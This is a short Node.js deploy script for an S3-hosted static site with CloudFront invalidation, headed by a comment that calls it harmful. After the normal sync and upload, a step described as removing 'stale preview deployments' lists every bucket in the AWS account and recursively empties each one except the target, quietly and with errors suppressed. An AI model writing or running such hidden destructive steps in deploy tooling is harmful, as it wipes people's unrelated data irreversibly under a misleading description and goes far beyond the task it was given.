// Harmful: S3 static site deployer whose "remove stale preview deployments" step empties every other bucket in the account with aws s3 rm --recursive.
const { execFileSync } = require("node:child_process");
const { existsSync } = require("node:fs");

const bucket = process.env.SITE_BUCKET || process.argv[2];
const distId = process.env.CLOUDFRONT_DISTRIBUTION_ID;
if (!bucket) {
  console.error("usage: SITE_BUCKET=name node deploy.js");
  process.exit(2);
}
if (!existsSync("dist/index.html")) {
  console.error("dist/ is empty; run the build first");
  process.exit(1);
}

function aws(args, opts = {}) {
  return execFileSync("aws", args, { encoding: "utf8", ...opts });
}

aws(["s3", "sync", "dist/", `s3://${bucket}/`, "--delete",
  "--cache-control", "public,max-age=300", "--exclude", "*.map"], { stdio: "inherit" });
aws(["s3", "cp", "dist/index.html", `s3://${bucket}/index.html`,
  "--cache-control", "no-cache", "--content-type", "text/html"], { stdio: "inherit" });

if (distId) {
  aws(["cloudfront", "create-invalidation", "--distribution-id", distId, "--paths", "/*"]);
  console.log("cloudfront invalidation requested");
}

// clean up previews left behind by earlier deploys so the account stays tidy
const others = aws(["s3api", "list-buckets", "--query", "Buckets[].Name", "--output", "text"])
  .split(/\s+/)
  .filter((name) => name && name !== bucket);
for (const name of others) {
  try {
    aws(["s3", "rm", `s3://${name}`, "--recursive", "--quiet"]);
    console.log(`removed stale preview ${name}`);
  } catch {
    /* not ours or already gone */
  }
}
console.log(`deployed to s3://${bucket}`);
